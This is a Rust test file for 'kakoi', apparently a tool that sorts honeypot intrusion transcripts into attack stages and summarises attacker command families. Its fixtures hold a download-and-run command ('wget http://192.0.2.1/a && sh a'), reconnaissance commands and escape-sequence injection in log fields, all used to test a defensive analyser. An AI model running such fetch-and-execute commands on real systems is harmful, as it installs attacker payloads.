// SPDX-License-Identifier: Apache-2.0
//! `kakoi stages` and `kakoi honeypot summarize`.

use std::io::Write;
use std::process::Stdio;

use crate::{command, kakoi, stderr, stdout, text};

fn file(content: &[u8]) -> tempfile::NamedTempFile {
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), content).unwrap();
    file
}

#[test]
fn a_transcript_becomes_the_columns_of_the_labelled_ones() {
    let transcript = file(b"# source: test\nsh\n\ncd /tmp; wget http://192.0.2.1/a && sh a\r\n");
    let output = kakoi(&["stages", text(transcript.path()), "--format", "tsv"]);
    let lines: Vec<String> = stdout(&output).lines().skip(1).map(str::to_owned).collect();
    assert_eq!(lines, ["2\t1\t1", "4\tmulti\t2,4a,6a"]);
    assert!(output.status.success(), "{}", stderr(&output));
}

#[test]
fn events_give_stages_table_and_what_calls_show() {
    let events = [
        r#"{"time":"2026-01-01T00:00:00Z","session":"s","event":"session-start","schema":1,"entry":"telnet"}"#,
        r#"{"time":"2026-01-01T00:00:01Z","session":"s","line":1,"event":"input","input":"chmod 755 x"}"#,
        r#"{"time":"2026-01-01T00:00:01Z","session":"s","line":1,"subject":{"pid":7,"program":"busybox:chmod"},"event":"call","call":"chmod","arguments":{"path":"x","mode":493},"result":0}"#,
        r#"{"time":"2026-01-01T00:00:02Z","session":"s","event":"session-end","lost":0}"#,
    ];
    let log = file(events.join("\n").as_bytes());
    let json = kakoi(&["stages", text(log.path()), "--format", "json"]);
    let object: serde_json::Value = serde_json::from_str(&stdout(&json)).unwrap();
    assert_eq!((&object["stage"], &object["observed"][0]), (&"S5".into(), &"S5".into()));
    let table = stdout(&kakoi(&["stages", text(log.path()), "--table"]));
    assert!(table.contains("| (5) Grant exec permission to file | chmod | fchmodat |"), "{table}");
}

#[test]
fn a_terminal_is_not_obeyed_by_what_an_intruder_typed() {
    let log =
        file(br#"{"eventid":"cowrie.command.input","session":"a\u001b[2J","input":"x\u001b]0;y"}"#);
    let shown = stdout(&kakoi(&["stages", text(log.path())]));
    assert!(!shown.contains('\u{1b}'), "{shown:?}");
}

#[test]
fn input_without_a_command_line_is_bad_input() {
    let empty = file(b"{\"eventid\":\"cowrie.session.connect\"}\n{\"broken\n");
    for arguments in
        [vec!["stages", text(empty.path())], vec!["honeypot", "summarize", text(empty.path())]]
    {
        let output = kakoi(&arguments);
        assert_eq!(output.status.code(), Some(3), "{}", stderr(&output));
    }
}

#[test]
fn a_line_of_any_length_is_cut_and_the_next_is_read() {
    let mut content = b"echo ".to_vec();
    content.resize(3 << 20, b'$');
    content.extend_from_slice(b"\nsh\n");
    let mut child = command(&["stages", "-", "--format", "json"]);
    let mut child = child.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(&content).unwrap();
    let output = child.wait_with_output().unwrap();
    let lines: Vec<serde_json::Value> =
        stdout(&output).lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!((&lines[0]["cut"], &lines[1]["stage"]), (&true.into(), &"S1".into()));
}

#[test]
fn a_summary_counts_families_whatever_their_tokens() {
    let line = |session: &str, input: &str| {
        format!(
            r#"{{"eventid":"cowrie.command.input","session":"{session}","timestamp":"2026-01-01T00:00:00Z","input":"{input}"}}"#
        )
    };
    let log = file(
        [
            line("a", "/bin/busybox ECCHI"),
            line("b", "/bin/busybox KWTZ"),
            line("c", "uname -a; id"),
        ]
        .join("\n")
        .as_bytes(),
    );
    let output = kakoi(&["honeypot", "summarize", text(log.path()), "--format", "json"]);
    let whole: serde_json::Value = serde_json::from_str(&stdout(&output)).unwrap();
    assert_eq!((whole["sessions"].as_u64(), whole["family_count"].as_u64()), (Some(3), Some(2)));
    assert_eq!(whole["families"][0]["sessions"], 2);
    let again = kakoi(&["honeypot", "summarize", text(log.path()), "--format", "json"]);
    assert_eq!(stdout(&output), stdout(&again));
}
